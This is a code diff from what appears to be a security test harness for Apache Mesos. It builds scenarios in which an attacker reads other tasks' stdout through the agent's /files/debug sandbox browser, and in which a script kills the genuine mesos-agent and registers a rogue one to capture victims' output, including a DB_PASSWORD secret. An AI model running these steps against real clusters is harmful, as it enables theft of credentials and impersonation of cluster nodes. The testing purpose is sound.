@@ -24,7 +24,12 @@ export function victim(o: { name?: string; detach?: boolean; extra?: string[]; t
   return {
     do: "execute",
     id: name,
-    args: [`--name=${name}`, `--env={"DB_PASSWORD":"${SECRET}"}`, `--command=echo DB_PASSWORD=$DB_PASSWORD${o.detach ? "; sleep 600" : ""}`, ...(o.extra ?? [])],
+    args: [
+      `--name=${name}`,
+      `--env={"DB_PASSWORD":"${SECRET}"}`,
+      `--command=echo DB_PASSWORD=$DB_PASSWORD${o.detach ? "; sleep 600" : ""}`,
+      ...(o.extra ?? []),
+    ],
     ...(o.detach ? { detach: true } : {}),
     ...(o.timeoutMs ? { timeoutMs: o.timeoutMs } : {}),
   };
@@ -34,7 +39,8 @@ export function victim(o: { name?: string; detach?: boolean; extra?: string[]; t
  * Sets `$s` to a task's sandbox as the agent's `/files` endpoints name it (`/frameworks/<id>/executors/<task>/runs/latest`):
  * `/files/debug` lists every sandbox the agent serves. The framework's ID is its third part.
  */
-export const sandboxOf = (task: string) => `s=$(curl -s http://\${target.agent}/files/debug | grep -o '/frameworks/[^"]*/executors/${task}/runs/latest' | head -n 1)`;
+export const sandboxOf = (task: string) =>
+  `s=$(curl -s http://\${target.agent}/files/debug | grep -o '/frameworks/[^"]*/executors/${task}/runs/latest' | head -n 1)`;
 
 /** The attacker reads a task's stdout through the agent's sandbox browser. */
 export const readSandbox = (id: string, task: string): Action => ({
@@ -68,11 +74,11 @@ export function rogueAgent(o: { tls?: boolean; waitS?: number } = {}): string {
   ];
   const ticks = (o.waitS ?? 4) * 4;
   return [
-    "pkill -f mesos-agent; sleep 0.2; rm -rf /var/tmp/rogue /tmp/rogue.log",
+    "pkill -x mesos-agent; sleep 0.2; rm -rf /var/tmp/rogue /tmp/rogue.log",
     `env ${env.join(" ")} nohup mesos-agent >/tmp/rogue.log 2>&1 &`,
     `i=0; while [ $i -lt ${ticks} ] && ! grep -q 'Registered with master' /tmp/rogue.log; do sleep 0.25; i=$((i+1)); done`,
     "grep -E 'Registered with master|No credentials provided|Failed to link|Master disconnected|EXIT' /tmp/rogue.log | cut -c1-400",
-  ].join("; ");
+  ].join("\n");
 }
 
 /** What landed in the rogue agent's sandboxes: the victims' stdout. */
